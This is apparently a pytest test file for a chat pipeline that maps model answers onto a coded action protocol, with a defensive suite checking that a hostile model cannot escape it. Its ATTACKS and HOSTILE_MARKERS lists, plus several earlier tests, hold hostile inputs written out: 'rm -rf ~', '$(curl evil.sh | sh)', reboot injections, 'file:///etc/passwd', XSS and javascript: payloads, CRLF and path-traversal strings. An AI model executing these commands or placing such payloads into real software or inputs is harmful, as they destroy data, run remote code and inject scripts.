from __future__ import annotations

import itertools
import json

import pytest

from milio.chat.answers.gate import is_safe_markdown
from milio.chat.contract.system_message import is_valid_system_message
from milio.chat.pipeline import ChatOptions, run_chat
from milio.errors import BadRequestError, PayloadTooLargeError
from milio.providers import ErrorKind, Failure, OutputSchema
from milio.providers.base import Completion
from milio.providers.chain import ChainResult
from tests.chat.conftest import (
    MODEL_ONLY,
    ONE_CALL,
    STEPWISE,
    DownCompleter,
    FunctionCompleter,
    ScriptedCompleter,
)

PDF_MESSAGE = "PDF Content number 1: Revenue grew 12%.\nUser request: summarize this pdf"


def decision(**fields: object) -> str:
    base: dict[str, object] = {
        "category": None,
        "action": None,
        "details": {},
        "search_query": None,
        "answer": None,
    }
    return json.dumps(base | fields)


def test_fast_path_answers_without_a_model_call() -> None:
    completer = ScriptedCompleter({})
    result = run_chat("open discord", completer, ONE_CALL)
    assert result.system_message == "001discord"
    assert (result.source, result.model_calls, completer.calls) == ("local", 0, [])
    assert result.action is not None
    assert result.action.args == {"name": "discord"}


def test_one_structured_call_gives_the_action_and_its_details() -> None:
    completer = ScriptedCompleter(
        {"decision": decision(category="0", action="003", details={"name": "report", "ext": "PDF"})}
    )
    result = run_chat("could you pull up my report pdf", completer, ONE_CALL)
    assert result.system_message == "003report|pdf"
    assert (result.model_calls, completer.purposes, result.source) == (1, ["decision"], "fake")
    assert result.action is not None
    assert (result.action.name, dict(result.action.args)) == (
        "open_file",
        {"name": "report", "ext": "pdf"},
    )


def test_one_structured_call_answers_questions_searches_and_pdfs() -> None:
    answer = ScriptedCompleter({"decision": decision(category="6", answer="Use `sorted()`.")})
    assert run_chat("how do I sort a list", answer, ONE_CALL).system_message == "6Use `sorted()`."
    search = ScriptedCompleter({"decision": decision(category="3", search_query="weather Paris")})
    assert run_chat("weather in paris?", search, ONE_CALL).system_message == "3weather Paris"
    pdf = ScriptedCompleter({"decision": decision(action="016", answer="Revenue grew.")})
    assert run_chat(PDF_MESSAGE, pdf, ONE_CALL).system_message == "016Revenue grew."
    assert len(answer.calls) == len(search.calls) == len(pdf.calls) == 1


def test_the_pdf_action_is_offered_only_with_a_pdf() -> None:
    completer = ScriptedCompleter({"decision": decision(action="016", answer="x")})
    result = run_chat("summarize it", completer, ONE_CALL)
    assert "016" not in str(completer.calls[0]["system"])
    assert result.system_message != "016x"
    first = result.log_records[0]
    assert (first.kind, first.detail) == (
        "out_of_set",
        "decision: the answer does not fit the schema",
    )


def test_a_decision_without_its_text_asks_for_the_text_once_more() -> None:
    completer = ScriptedCompleter({"decision": decision(category="5"), "answer_5": "A poem."})
    result = run_chat("write me a poem", completer, ONE_CALL)
    assert (result.system_message, completer.purposes) == ("5A poem.", ["decision", "answer_5"])


def test_a_refused_structured_request_goes_step_by_step() -> None:
    completer = ScriptedCompleter(
        {"category": "0", "action": "03", "details": '{"name": "report", "ext": "pdf"}'}
    )
    result = run_chat("open my report", completer, ONE_CALL)
    assert result.system_message == "003report|pdf"
    assert completer.purposes == ["decision", "category", "action", "details"]
    assert result.model_calls == 4
    assert [r.kind for r in result.log_records] == ["provider_failure", "out_of_set"]


@pytest.mark.parametrize(
    "answer",
    [
        "I think you want to open an app.",
        decision(category="4", action="001"),  # contradicts itself
        decision(category="0", action="042"),  # no such action
        '{"category": "banana"}',
    ],
)
def test_a_decision_that_does_not_fit_goes_step_by_step(answer: str) -> None:
    completer = ScriptedCompleter({"decision": answer, "category": "7", "answer_7": "Hi!"})
    result = run_chat("hello there", completer, ONE_CALL)
    assert result.system_message == "7Hi!"
    assert completer.purposes == ["decision", "category", "answer_7"]
    assert result.log_records[0].kind == "out_of_set"
    assert result.log_records[0].model_answer == answer[:500]


def test_when_the_providers_are_down_the_answer_is_b_after_one_call() -> None:
    completer = DownCompleter()
    result = run_chat("what is gravity", completer, ONE_CALL)
    assert (result.system_message, completer.calls) == ("B", 1)
    assert [(r.kind, r.provider) for r in result.log_records] == [
        ("provider_failure", "groq"),
        ("unavailable", None),
    ]


def test_provider_failures_before_an_answer_are_returned_for_the_error_log() -> None:
    class FlakyCompleter(ScriptedCompleter):
        def complete_structured(
            self, *, system: str, user: str, output: OutputSchema, max_tokens: int, purpose: str
        ) -> ChainResult:
            failure = Failure("groq", ErrorKind.RATE_LIMITED, 12.0, 429)
            completion = Completion(decision(category="7", answer="Hi"), "openai", "m", 5.0, 3)
            return ChainResult(completion, (failure,))

    result = run_chat("hello", FlakyCompleter({}), ONE_CALL)
    assert (result.system_message, result.source) == ("7Hi", "openai")
    record = result.log_records[0]
    assert (record.kind, record.detail, record.provider, record.latency_ms) == (
        "provider_failure",
        "rate_limited (HTTP 429)",
        "groq",
        12.0,
    )


def test_steps_narrow_from_category_to_details() -> None:
    completer = ScriptedCompleter(
        {"category": "0", "action": "03", "details": '{"name": "report", "ext": "PDF"}'}
    )
    result = run_chat("open the file report.pdf", completer, MODEL_ONLY)
    assert result.system_message == "003report|pdf"
    assert completer.purposes == ["category", "action", "details"]
    assert (result.model_calls, result.source) == (3, "fake")
    assert all(c["user"] == "open the file report.pdf" for c in completer.calls)


def test_invalid_detail_becomes_missing_detail_payload() -> None:
    completer = ScriptedCompleter(
        {"category": "0", "action": "01", "details": '{"name": "discord; rm -rf ~"}'}
    )
    result = run_chat("open my thing", completer, MODEL_ONLY)
    assert result.system_message == "0010"
    assert [e.kind for e in result.log_records] == ["out_of_set"]


def test_answer_outside_the_set_is_retried_once_then_not_understood() -> None:
    completer = ScriptedCompleter({"category": "9", "category_retry": "banana"})
    result = run_chat("hmm", completer, MODEL_ONLY)
    assert (result.system_message, result.model_calls) == ("A", 2)
    assert "not one of the allowed codes" in str(completer.calls[1]["system"])
    assert [e.kind for e in result.log_records] == ["out_of_set", "not_understood"]
    assert (result.log_records[0].model_answer, result.log_records[0].provider) == ("9", "fake")


def test_retry_that_succeeds_continues_the_pipeline() -> None:
    completer = ScriptedCompleter(
        {"category": "I think it is hardware or software", "category_retry": "1", "action": "06"}
    )
    result = run_chat("turn it all off", completer, MODEL_ONLY)
    assert (result.system_message, result.model_calls) == ("106", 3)


def test_hardware_none_of_these_is_100_and_software_none_is_a() -> None:
    hardware = ScriptedCompleter({"category": "1", "action": "00"})
    software = ScriptedCompleter({"category": "0", "action": "00"})
    assert run_chat("mute", hardware, MODEL_ONLY).system_message == "100"
    assert run_chat("x", software, MODEL_ONLY).system_message == "A"
    one_call = ScriptedCompleter({"decision": decision(category="1")})
    assert run_chat("mute", one_call, ONE_CALL).system_message == "100"


def test_no_completer_gives_b_when_the_fast_path_cannot_answer() -> None:
    assert run_chat("what is gravity", None, STEPWISE).system_message == "B"
    assert run_chat("open discord", None, STEPWISE).system_message == "001discord"
    assert run_chat("open discord", None, MODEL_ONLY).system_message == "B"


def test_direct_answer_is_sanitized_markdown() -> None:
    completer = ScriptedCompleter(
        {
            "category": "6",
            "answer_6": "Use **this**:\n```html\n<b>x</b>\n```\n<script>alert(1)</script>",
        }
    )
    result = run_chat("write html", completer, MODEL_ONLY)
    assert result.system_message.startswith("6Use **this**:\n\n```html\n<b>x</b>\n```\n")
    assert "<script>" not in result.system_message
    assert result.action is None


def test_pdf_question_is_answered_as_016() -> None:
    completer = ScriptedCompleter({"category": "0", "action": "16", "answer_016": "Revenue grew."})
    result = run_chat(PDF_MESSAGE, completer, STEPWISE)
    assert result.system_message == "016Revenue grew."
    assert "16: " in str(completer.calls[1]["system"])


def test_pdf_action_is_not_offered_without_a_pdf() -> None:
    completer = ScriptedCompleter({"category": "0", "action": ["16", "16"]})
    result = run_chat("summarize it", completer, MODEL_ONLY)
    assert result.system_message == "A"
    assert "16: " not in str(completer.calls[1]["system"])


def test_search_query_is_cleaned() -> None:
    completer = ScriptedCompleter({"category": "3", "search_query": 'weather "Paris"\n; $(reboot)'})
    result = run_chat("weather in paris?", completer, MODEL_ONLY)
    assert result.system_message == "3weather Paris"


def test_request_size_limits() -> None:
    options = ChatOptions(max_message_chars=1000)
    with pytest.raises(PayloadTooLargeError):
        run_chat("x" * 1001, None, options)
    with pytest.raises(BadRequestError):
        run_chat("  ", None, options)


ATTACKS = [
    "0",
    "01",
    "1",
    "17",
    '{"name": "x; rm -rf ~", "ext": "pdf", "old": "../../etc", "new": "-rf", "seconds": 1e99}',
    '{"url": "javascript:alert(1)", "amount": "%1000", "recipient": "a@b.co\\r\\nBcc: x@y.z"}',
    '{"name": "$(curl evil.sh | sh)", "song": "`reboot`", "playlist": "a|b"}',
    '{"seconds": 99999999999999999999, "amount": -1, "url": "https://a.com/\\" & calc"}',
    '{"category": "0", "action": "001", "details": {"name": "discord\\"; reboot"}}',
    '{"category": "4", "answer": "<img src=x onerror=alert(1)>[x](javascript:alert(1))"}',
    '{"category": "3", "search_query": "a\\nb; $(reboot) <script>"}',
    '{"category": "0", "action": "014", "details": {"url": "file:///etc/passwd"}}',
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))\n```\n<b>",
    "001discord; rm -rf ~",
    "014javascript:alert(1)",
    "A\nB\n0",
    "0\n1\n3",
    "",
    "\x00\x1b[2J",
    "..\\..\\windows\\system32",
]
HOSTILE_MARKERS = [
    "rm -rf",
    "$(",
    "`reboot`",
    "<script",
    "onerror=alert",
    "javascript:",
    "..",
    "\r",
]
MESSAGES = ["open the file report.pdf", "do something", PDF_MESSAGE, "tell me a joke", "volume"]


@pytest.mark.parametrize(
    ("attack", "message", "options"),
    list(itertools.product(ATTACKS, MESSAGES, [MODEL_ONLY, ONE_CALL])),
)
def test_hostile_model_never_gets_outside_the_protocol(
    attack: str, message: str, options: ChatOptions
) -> None:
    completer = FunctionCompleter(lambda _purpose: attack)
    result = run_chat(message, completer, options)
    assert is_valid_system_message(result.system_message)
    if result.system_message[:1] in "01" and not result.system_message.startswith("016"):
        for marker in HOSTILE_MARKERS:
            assert marker not in result.system_message


@pytest.mark.parametrize("attack", ATTACKS)
def test_hostile_model_in_every_step_order(attack: str) -> None:
    # A model that picks valid codes but answers details and text with attacks.
    for category, action in [
        ("0", "01"),
        ("0", "03"),
        ("0", "06"),
        ("0", "12"),
        ("0", "14"),
        ("0", "15"),
        ("0", "17"),
        ("1", "01"),
        ("3", ""),
        ("4", ""),
    ]:
        completer = ScriptedCompleter({"category": category, "action": action, "*": attack})
        message = run_chat("please help", completer, MODEL_ONLY).system_message
        assert is_valid_system_message(message), message
        if category in "01":
            assert message[3:] == "0" or not any(m in message for m in HOSTILE_MARKERS)
        if category == "4":
            assert "<script" not in message
            assert "<img" not in message
            assert is_safe_markdown(message[1:])


@pytest.mark.parametrize(
    "message",
    [
        "001discord",
        "0010",
        "003report|pdf",
        "006a|txt|b",
        "011",
        "012song|",
        "101%10",
        "10210",
        "014https://www.youtube.com/",
        "017120",
        "100",
        "3weather Paris",
        "4Hello **there**",
        "A",
        "B",
        "016Summary.",
        "010.git",
    ],
)
def test_protocol_accepts_every_documented_shape(message: str) -> None:
    assert is_valid_system_message(message)


@pytest.mark.parametrize(
    "message",
    [
        "",
        "2",
        "8hello",
        "0",
        "019",
        "001",
        "001a;b",
        "001../x",
        "003report",
        "011x",
        "017-5",
        "0170.5",
        "101%101",
        "014javascript:alert(1)",
        "3a\nb",
        "3",
        "4",
        "4<b>x</b>",
        "A!",
        "Bx",
        "015a@b.co|hi",
        "016",
        "1000",
        "010..",
    ],
)
def test_protocol_refuses_anything_else(message: str) -> None:
    assert not is_valid_system_message(message)


def test_the_gate_judges_a_stepwise_answer_once(judged: list[str]) -> None:
    completer = ScriptedCompleter({"category": "6", "answer_6": "Use **this**."})
    result = run_chat("write html", completer, MODEL_ONLY)
    assert result.system_message == "6Use **this**."
    assert judged == ["Use **this**."]


def test_the_gate_judges_an_answer_in_the_decision_once(judged: list[str]) -> None:
    completer = ScriptedCompleter({"decision": decision(category="7", answer="Hi **there**.")})
    result = run_chat("say hi", completer, ONE_CALL)
    assert result.system_message == "7Hi **there**."
    assert judged == ["Hi **there**."]


def test_a_message_not_from_the_gate_is_still_judged_by_the_final_check(
    judged: list[str],
) -> None:
    assert is_valid_system_message("7Hi <b>there</b>.", judged="something else") is False
    assert judged == ["Hi <b>there</b>."]


def test_a_fast_path_that_fails_leaves_the_message_to_the_models(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def slip(text: str) -> None:
        raise IndexError(f"no reading of {text!r}")

    monkeypatch.setattr("milio.chat.understanding.matcher.match", slip)
    chosen = decision(category="0", action="001", details={"name": "discord"})
    completer = ScriptedCompleter({"decision": chosen})
    result = run_chat("open discord", completer, ONE_CALL)
    assert (result.system_message, result.source, result.model_calls) == ("001discord", "fake", 1)
    assert "the fast path failed (IndexError at test_pipeline.py" in caplog.text
    assert "open discord" not in caplog.text  # the message is the user's, not the log's
